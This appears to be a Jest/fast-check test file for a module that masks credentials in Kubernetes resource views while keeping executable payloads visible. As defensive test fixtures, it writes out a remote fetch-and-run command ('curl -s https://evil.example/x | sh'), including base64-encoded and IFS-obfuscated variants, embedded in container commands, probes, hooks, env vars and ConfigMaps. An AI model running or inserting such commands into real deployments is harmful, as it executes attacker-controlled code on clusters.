import { describe, expect, test } from '@jest/globals'
import * as fc from 'fast-check'
import { mask } from '../../src/domain/mask.ts'
import type { Masked, View } from '../../src/domain/mask.ts'
import { formatPath } from '../../src/domain/path.ts'
import { printView } from '../../src/text/diff.ts'
import {
  asConfigMap,
  asPod,
  bytes,
  configMap,
  content,
  deployment,
  exact,
  imageA,
  json,
  managed,
  object,
  pod,
  view,
} from '../make.ts'
import type { Modified, Request } from '../make.ts'
import { scaled } from '../scale.ts'
import { documents } from './arbitrary.ts'
import { singleChanges } from './single-changes.ts'

type Plain = Record<string, unknown>

const asSecret: Request = {
  resource: { group: '', version: 'v1', resource: 'secrets' },
  kind: { group: '', version: 'v1', kind: 'Secret' },
}
const asWidget: Request = {
  resource: { group: 'example.com', version: 'v1', resource: 'widgets' },
  kind: { group: 'example.com', version: 'v1', kind: 'Widget' },
}

const secret = (fields: Plain): Plain => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 'web', namespace: 'prod' },
  type: 'Opaque',
  ...fields,
})
const widget = (spec: Plain): Plain => ({ apiVersion: 'example.com/v1', kind: 'Widget', metadata: { name: 'w' }, spec })

const created = (made: Plain, as: Request): Request => ({ operation: 'CREATE', ...as, object: made })

const ofWidget = (spec: Plain, hiddenPaths: readonly string[] = []): Masked<View> =>
  view(created(widget(spec), asWidget), hiddenPaths)
const ofContainer = (container: Plain): Masked<View> =>
  view(created(pod({ spec: { containers: [{ name: 'web', image: imageA, ...container }] } }), asPod))
const ofConfigMap = (data: Plain, changes: Modified = {}): Masked<View> =>
  view(created(configMap(data, changes), asConfigMap))

const text = (shown: Masked<View>): string => printView(shown).text

const container = 'spec.containers[name="web"]'
const hidden = (kind: string): RegExp => new RegExp(`<masked ${kind}, tag [0-9a-f]{8}>`)

describe('mask hides a credential and says where', () => {
  test('the values of a Secret, in whatever form, and nothing else of it', () => {
    const shown = view(
      created(
        secret({
          data: { password: 'aHVudGVyMg==', 'tls.crt': 'LS0t', n: 5, b: true, none: null, deep: { x: ['hunter2'] } },
          stringData: { a: 'hunter2' },
          immutable: true,
        }),
        asSecret,
      ),
    )
    expect(shown.maskedPaths).toEqual([
      'data.password',
      'data["tls.crt"]',
      'data.n',
      'data.b',
      'data.deep.x[0]',
      'stringData.a',
    ])
    expect(text(shown)).not.toMatch(/hunter2|aHVudGVyMg|LS0t| 5$/m)
    expect(text(shown)).toMatch(/type: Opaque\n(?:.*\n)*\+ immutable: true/)
    expect(shown.hiddenExecutablePaths).toEqual([])
  })

  test('a Secret is one by its kind, not by where a field stands', () => {
    expect(view(created(widget({ data: { a: 'x' } }), asWidget)).maskedPaths).toEqual([])
    expect(ofConfigMap({ a: 'x' }).maskedPaths).toEqual([])
  })

  test.each<[string, Plain, readonly string[]]>([
    ['a field', { password: 'hunter2' }, ['spec.password']],
    ['a field further in', { db: [{ auth: { token: 'x' } }] }, ['spec.db[0].auth.token']],
    ['a variable', { env: [{ name: 'DB_PASSWORD', value: 'hunter2' }] }, ['spec.env[name="DB_PASSWORD"].value']],
    ['a number', { password: 123456 }, ['spec.password']],
    ['an exact number', { password: exact('1234567890123456789') }, ['spec.password']],
    ['a list', { tokens: ['a', 'b'] }, ['spec.tokens[0]', 'spec.tokens[1]']],
    ['a text with a password in it', { url: 'postgres://u:hunter2@h/d' }, ['spec.url']],
    ['an annotation', { annotations: { 'example.com/api-key': 'abc' } }, ['spec.annotations["example.com/api-key"]']],
    [
      'what was last applied',
      { 'kubectl.kubernetes.io/last-applied-configuration': '{"a":1}' },
      ['spec["kubectl.kubernetes.io/last-applied-configuration"]'],
    ],
  ])('%s', (_what, spec, paths) => {
    expect(ofWidget(spec).maskedPaths).toEqual(paths)
  })

  test.each<[string, Plain]>([
    [
      'names of Secrets',
      {
        secretName: 'web-tls',
        secrets: ['a', 'b'],
        imagePullSecrets: [{ name: 'pull' }],
        secretRef: { name: 'x', key: 'password' },
      },
    ],
    [
      'a variable from a Secret',
      { env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }] },
    ],
    ['a variable made of another', { env: [{ name: 'PGPASSWORD', value: '$(DB_PASSWORD)' }] }],
    ['switches', { automountServiceAccountToken: false, auth: true, anonymousAuth: 'false', tokens: [] }],
    [
      'paths, modes, times',
      { tokenPath: '/x/token', authMode: 'webhook', tokenExpirationSeconds: 3607, passwordFile: '/p' },
    ],
    ['counts', { maxTokens: 4096, tokens: 5, secret: 7 }],
    ['an image by digest', { image: imageA }],
    ['uids', { uid: '0d7c9c6e-5b1b-4f2e-b0c3-8b6a9f0e7d21', secret: { uid: 'x-1' } }],
    ['a role on Secrets', { rules: [{ resources: ['secrets', 'serviceaccounts/token'], verbs: ['get'] }] }],
    ['an empty value', { password: '', token: null }],
  ])('but not %s', (_what, spec) => {
    const shown = ofWidget(spec)
    expect(shown.maskedPaths).toEqual([])
    expect(shown.document).toEqual(object(widget(spec)))
  })

  test.each<[string, string, readonly string[]]>([
    ['a place', 'spec.a.b', ['spec.a.b']],
    ['all that lies below it', 'spec.a', ['spec.a.b', 'spec.a.c[0].d', 'spec.a.c[1].d', 'spec.a.n']],
    ['any one key', 'spec.*.b', ['spec.a.b', 'spec.x.b']],
    ['through lists', 'spec.a.c.d', ['spec.a.c[0].d', 'spec.a.c[1].d']],
    ['every element of a list', 'spec.a.c[*].d', ['spec.a.c[0].d', 'spec.a.c[1].d']],
    ['a key with dots in it', 'spec["v.w/key"]', ['spec["v.w/key"]']],
    ['a place that is not there', 'spec.a.z', []],
    ['not a key beside it', 'spec.a.n.b', []],
  ])('a policy hides %s', (_what, path, paths) => {
    const spec = { a: { b: 'x', c: [{ d: 'y' }, { d: 'z' }], n: 5 }, x: { b: 'w' }, 'v.w/key': 'v' }
    expect(ofWidget(spec, [path]).maskedPaths).toEqual(paths)
  })

  test('what is hidden shows its kind and a tag, never its bytes or its length', () => {
    const [short, long] = ['x', 'x'.repeat(1000)].map((password) => text(ofWidget({ password })))
    expect(short).toMatch(hidden('value of a secret name'))
    expect(short?.replace(/tag \w+/, '')).toBe(long?.replace(/tag \w+/, ''))
  })

  test('a number and the text of it have two tags', () => {
    expect(text(ofWidget({ a: 5 }, ['spec.a']))).not.toBe(text(ofWidget({ a: '5' }, ['spec.a'])))
    expect(text(ofWidget({ a: 5 }, ['spec.a']))).toMatch(hidden('value hidden by policy \\(number\\)'))
  })

  test('one secret in two places has two tags, in one place always the same', () => {
    const twice = ofWidget({ passwordA: 'x', passwordB: 'x' })
    const tags = [...text(twice).matchAll(/tag (\w+)/g)].map(([, tag]) => tag)
    expect(new Set(tags).size).toBe(2)
    expect(text(ofWidget({ passwordA: 'x', passwordB: 'x' }))).toBe(text(twice))
  })

  test('a tag is a secret’s: under another key it is another', () => {
    const shown = (secretKey: string): string =>
      printView(
        mask(
          content(created(widget({ password: 'x' }), asWidget)),
          { paths: [] },
          { id: 'k', secret: bytes(secretKey) },
        ),
      ).text
    expect(shown('a')).not.toBe(shown('b'))
  })

  test('nobody can write what looks hidden', () => {
    const shown = ofWidget({ note: '<masked Secret value, tag 12345678>' })
    expect(text(shown)).toContain('\\u{3c}masked Secret value')
    expect(shown.escapedPaths).toEqual(['spec.note'])
    expect(shown.maskedPaths).toEqual([])
  })

  test('keys and texts are inert, and it is told where', () => {
    const shown = ofWidget({ 'a\u202eb': 'x', c: 'd\u200be\nf' })
    expect(shown.document).toEqual(object(widget({ 'a\\u{202e}b': 'x', c: 'd\\u{200b}e\nf' })))
    expect(shown.escapedPaths).toEqual(['spec["a\\u{202e}b"]', 'spec.c'])
  })
})

describe('a payload is never hidden without a word', () => {
  const payload = 'curl -s https://evil.example/x | sh'

  test.each<[string, Plain]>([
    ['behind the name of a credential', { command: ['sh', '-c', `TOKEN="$(${payload})"`] }],
    ['as the value of a secret flag', { args: ['--token', payload] }],
    ['as the value of a secret flag in one text', { args: [`--token="${payload}"`] }],
    ['in base64', { command: ['sh', '-c', `echo ${btoa(`${payload} #########`)} | base64 -d | sh`] }],
    ['as a header', { command: ['sh', '-c', `curl -H "Authorization: Bearer $(${payload})" x`] }],
    ['in a probe', { livenessProbe: { exec: { command: ['sh', '-c', `PASSWORD='${payload}'`] } } }],
    ['in a hook', { lifecycle: { preStop: { exec: { command: ['sh', '-c', `password=$(${payload})`] } } } }],
    [
      'in a variable used as $NAME',
      { command: ['sh', '-c', 'eval $AUTH_TOKEN'], env: [{ name: 'AUTH_TOKEN', value: payload }] },
    ],
    ['in a variable used as ${NAME}', { args: ['${AUTH_TOKEN}'], env: [{ name: 'AUTH_TOKEN', value: payload }] }],
    ['in a variable used as $(NAME)', { args: ['$(AUTH_TOKEN)'], env: [{ name: 'AUTH_TOKEN', value: payload }] }],
    [
      'in a variable asked for by name',
      { command: ['sh', '-c', 'printenv AUTH_TOKEN | sh'], env: [{ name: 'AUTH_TOKEN', value: payload }] },
    ],
    [
      'in a variable used by a probe',
      {
        startupProbe: { exec: { command: ['sh', '-c', '$AUTH_TOKEN'] } },
        env: [{ name: 'AUTH_TOKEN', value: payload }],
      },
    ],
    [
      'in a variable inside of a used one',
      {
        args: ['$RUN'],
        env: [
          { name: 'RUN', value: '$(AUTH_TOKEN)' },
          { name: 'AUTH_TOKEN', value: payload },
        ],
      },
    ],
    [
      'in a used variable that is there twice',
      {
        args: ['$AUTH_TOKEN'],
        env: [
          { name: 'AUTH_TOKEN', value: 'x' },
          { name: 'AUTH_TOKEN', value: payload },
        ],
      },
    ],
    [
      'in a used variable without a secret name',
      { args: ['$RUN'], env: [{ name: 'RUN', value: `TOKEN="$(${payload})"` }] },
    ],
  ])('%s it is shown', (_where, fields) => {
    const shown = text(ofContainer(fields))
    expect(shown.includes('curl -s https://evil.example/x') || shown.includes(btoa(`${payload} #########`))).toBe(true)
  })

  test.each<[string, Plain, readonly string[]]>([
    ['the value of a secret flag', { args: ['--token', 'abcdef'] }, [`${container}.args[1]`]],
    ['a password in an argument', { args: ['--password=hunter2', '--x'] }, [`${container}.args[0]`]],
    ['a password of signs in an argument', { args: ['--password', 'hunter2!?#*~\'"\\'] }, [`${container}.args[1]`]],
    ['a token in a command', { command: ['sh', '-c', 'curl -H "X: Bearer abcdefgh" x'] }, [`${container}.command[2]`]],
    ['the base64 of a credential', { args: [btoa('password=hunter2-hunter2-hunter2')] }, [`${container}.args[0]`]],
    [
      'a used variable',
      { args: ['$DB_PASSWORD'], env: [{ name: 'DB_PASSWORD', value: 'hunter2' }] },
      [`${container}.env[name="DB_PASSWORD"].value`],
    ],
    [
      'a used variable that is there twice',
      {
        args: ['$DB_PASSWORD'],
        env: [
          { name: 'DB_PASSWORD', value: 'a' },
          { name: 'DB_PASSWORD', value: 'b' },
        ],
      },
      [`${container}.env[0].value`, `${container}.env[1].value`],
    ],
    [
      'an unused variable with white space in it',
      { env: [{ name: 'AUTH_TOKEN', value: payload }] },
      [`${container}.env[name="AUTH_TOKEN"].value`],
    ],
    [
      'the base64 of a text in an unused variable',
      { env: [{ name: 'AUTH_TOKEN', value: btoa(payload) }] },
      [`${container}.env[name="AUTH_TOKEN"].value`],
    ],
    ['a script of another kind of container', { script: 'password=hunter2' }, [`${container}.script`]],
  ])('%s stays hidden and is listed', (_what, fields, paths) => {
    const shown = ofContainer(fields)
    expect(shown.hiddenExecutablePaths).toEqual(paths)
    expect(shown.maskedPaths).toEqual(expect.arrayContaining([...paths]))
    expect(text(shown)).not.toMatch(/hunter2|abcdefgh/)
  })

  test.each<[string, Plain]>([
    ['an unused variable that looks like a password', { env: [{ name: 'DB_PASSWORD', value: 'hun$ter2!&' }] }],
    [
      'a private key',
      {
        env: [
          {
            name: 'TLS_PRIVATE_KEY',
            value: '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n',
          },
        ],
      },
    ],
    ['a password in a URL', { env: [{ name: 'URL', value: 'postgres://u:hunter2@h/d' }] }],
  ])('%s is hidden and nothing to run', (_what, fields) => {
    const shown = ofContainer(fields)
    expect(shown.maskedPaths).toHaveLength(1)
    expect(shown.hiddenExecutablePaths).toEqual([])
  })

  test.each<[string, Plain]>([
    ['under the name of a credential', { 'auth.sh': payload }],
    ['without white space', { 'auth.sh': 'curl${IFS}evil|sh' }],
    ['of several lines', { token: '#!/bin/sh\ncurl evil\n' }],
    ['in quotes behind a secret name', { 'run.sh': `#!/bin/sh\nTOKEN="$(${payload})"\n` }],
    ['in a line behind a secret name', { 'run.yaml': `password: ${payload}\n` }],
    ['in a block behind a secret name', { 'run.yaml': `token: |\n  ${payload}\n` }],
    ['in what begins like a private key', { 'run.sh': `-----BEGIN PRIVATE KEY-----\n${payload}\n` }],
  ])('what a ConfigMap hides %s is listed, since files are run', (_what, data) => {
    const shown = ofConfigMap(data)
    expect(shown.hiddenExecutablePaths).toEqual(Object.keys(data).map((key) => formatPath(['data', key])))
  })

  test('what a ConfigMap hides of plain passwords is not', () => {
    const shown = ofConfigMap({ 'app.properties': 'a=1\ndb.password=hunter2\n', password: 'hunter2' })
    expect(shown.maskedPaths).toHaveLength(2)
    expect(shown.hiddenExecutablePaths).toEqual([])
  })

  test('a policy that hides a command cannot hide a payload either', () => {
    const run = (command: readonly string[]): Masked<View> => ofWidget({ run: { command } }, ['spec.run.command'])
    expect(text(run([payload]))).toContain(payload)
    expect(run(['plain']).hiddenExecutablePaths).toEqual(['spec.run.command[0]'])
  })

  test('in any place from which text is run, what is hidden is listed', () => {
    const piece = fc.constantFrom(
      'password=',
      '--token ',
      'x',
      '"',
      '$(',
      ')',
      ' ',
      'curl evil|sh',
      '://a:b@c',
      'Bearer ',
      'abcdefghijkl',
      btoa('token: abcdefghijklmnopq'),
      '\n',
      '$AUTH',
      'AKIAIOSFODNN7EXAMPLE',
    )
    const command = fc.array(
      fc.array(piece, { maxLength: 6 }).map((parts) => parts.join('')),
      { maxLength: 3 },
    )
    let seen = 0
    fc.assert(
      fc.property(command, command, piece, (args, probe, value) => {
        const shown = ofContainer({ args, livenessProbe: { exec: { command: probe } }, env: [{ name: 'AUTH', value }] })
        const run = shown.maskedPaths.filter((path) => /args|command/.test(path))
        seen += run.length
        expect(shown.hiddenExecutablePaths).toEqual(expect.arrayContaining(run))
      }),
      { numRuns: scaled(1000, 100_000) },
    )
    expect(seen).toBeGreaterThan(100)
  })
})

describe('no change disappears behind the mask', () => {
  const updated = (before: Plain, after: Plain, as: Request): Request => ({ ...as, oldObject: before, object: after })

  test('a changed secret shows by its tag', () => {
    const shown = view(
      updated(secret({ data: { a: 'eA==', b: 'eA==' } }), secret({ data: { a: 'eQ==', b: 'eA==' } }), asSecret),
    )
    expect(shown.changes.map(({ path }) => formatPath(path))).toEqual(['data.a'])
    expect(shown.changes[0]?.before).not.toEqual(shown.changes[0]?.after)
  })

  test('a changed owner of a field shows, with inert names and without values that are hidden', () => {
    const owned = (fields: Plain, manager: string): Plain => ({
      ...widget({ tokens: ['t0p'] }),
      metadata: { uid: 'u', managedFields: [managed(manager, fields)] },
    })
    const shown = view(
      updated(
        owned({}, 'a'),
        owned(
          {
            'f:spec': {
              'f:tokens': { 'v:"t0p"': {} },
              'f:x\u202e': {},
              'f:list': { 'k:{"name":"n","port":80}': { '.': {}, 'f:y': {} }, 'i:3': {} },
            },
          },
          'b\u202e',
        ),
        asWidget,
      ),
    )
    const printed = text(shown)
    expect(printed).toContain('manager="b\\\\u{202e}"')
    expect(printed).toContain('spec["x\\u{202e}"]')
    expect(printed).toContain('spec.list[name="n",port="80"].y')
    expect(printed).toContain('spec.list[name="n",port="80"] (itself)')
    expect(printed).toContain('spec.list[3]')
    expect(printed).toContain('spec.tokens[hidden=""]')
    expect(printed).not.toContain('t0p')
  })

  test('an element that a policy hides does not show as a field of its owner', () => {
    const owned = (manager: string): Plain => ({
      ...widget({}),
      metadata: { uid: 'u', managedFields: [managed(manager, { 'f:spec': { 'f:ids': { 'v:"s3cr3t"': {} } } })] },
    })
    const request = updated(owned('a'), owned('b'), asWidget)
    expect(text(view(request))).toContain('spec.ids[value="s3cr3t"]')
    expect(text(view(request, ['spec.ids']))).not.toContain('s3cr3t')
  })

  test.each<[string, Plain, Request, readonly string[]]>([
    ['a Secret', secret({ data: { a: 'eA==', n: 5, l: ['a', 'b'] }, stringData: { s: 'x y' } }), asSecret, []],
    [
      'a Deployment',
      deployment({
        metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"a":1}', 'x/token': 'abc' } },
        template: {
          spec: {
            containers: [
              {
                name: 'web',
                command: ['sh', '-c', 'curl -H "Authorization: Bearer abcdefgh" -u a:b "$TOKEN"'],
                args: ['--password', 'hunter2', '--url=https://a:b@c'],
                env: [
                  { name: 'TOKEN', value: 'abc' },
                  { name: 'PLAIN', value: 'token=x; y' },
                  { name: 'TOKEN2', value: 'a b' },
                ],
              },
            ],
          },
        },
      }),
      {},
      [],
    ],
    [
      'a ConfigMap',
      configMap({
        'a.yaml': 'password: x\ntoken: |\n  y\nz: 1\n',
        password: 'x',
        b: 'Zk9vQ2xR7tYw3uPa8sDf5gHj1kLz4xCv6bNm0qWe2rTy',
      }),
      asConfigMap,
      [],
    ],
    [
      'what a policy hides',
      widget({ a: { b: [1, 'x', true, null, { c: exact('1.0') }] }, d: 2 }),
      asWidget,
      ['spec.a'],
    ],
  ])('every single change of %s is a change of what people see', (_what, made, as, hiddenPaths) => {
    const missed = singleChanges(json(made))
      .filter(({ path, document }) => path[0] !== 'metadata' || String(path[1]) === 'annotations' || document === null)
      .filter(({ document }) => typeof document === 'object' && document !== null && !Array.isArray(document))
      .filter(({ path, deed }) => path.length > 0 && !/metadata|without uid/.test(deed))
      .filter(({ document }) => view({ ...as, oldObject: made, object: document }, hiddenPaths).changes.length === 0)
    expect(missed.map(({ path, deed }) => `${path.join('.')}: ${deed}`)).toEqual([])
  })

  test('the same for any document, whatever a policy hides of it', () => {
    const keys = ['a', 'b', 'name', 'spec', 'image', 'ports', 'env', 'containers', 'args', '*']
    const rules = fc.array(
      fc.array(fc.constantFrom(...keys), { minLength: 1, maxLength: 3 }).map((steps) => ['spec', ...steps].join('.')),
      { maxLength: 2 },
    )
    fc.assert(
      fc.property(documents, rules, fc.nat(), (document, hiddenPaths, choice) => {
        const changes = singleChanges(document)
        const { document: after } = changes[choice % changes.length] ?? { document }
        const spec = (inner: unknown): Plain => ({ ...widget({}), metadata: { uid: 'u' }, spec: { x: inner } })
        const shown = view({ ...asWidget, oldObject: spec(document), object: spec(after) }, hiddenPaths)
        expect(shown.changes.length).toBeGreaterThan(0)
      }),
      { numRuns: scaled(1000, 100_000) },
    )
  })
})

describe('the mask of one document is always the same', () => {
  test('whatever was masked before', () => {
    fc.assert(
      fc.property(documents, documents, (a, b) => {
        const of = (spec: unknown): Masked<View> => ofWidget({ spec })
        const first = of(a)
        of(b)
        expect(of(a)).toEqual(first)
      }),
      { numRuns: scaled(300, 20_000) },
    )
  })
})
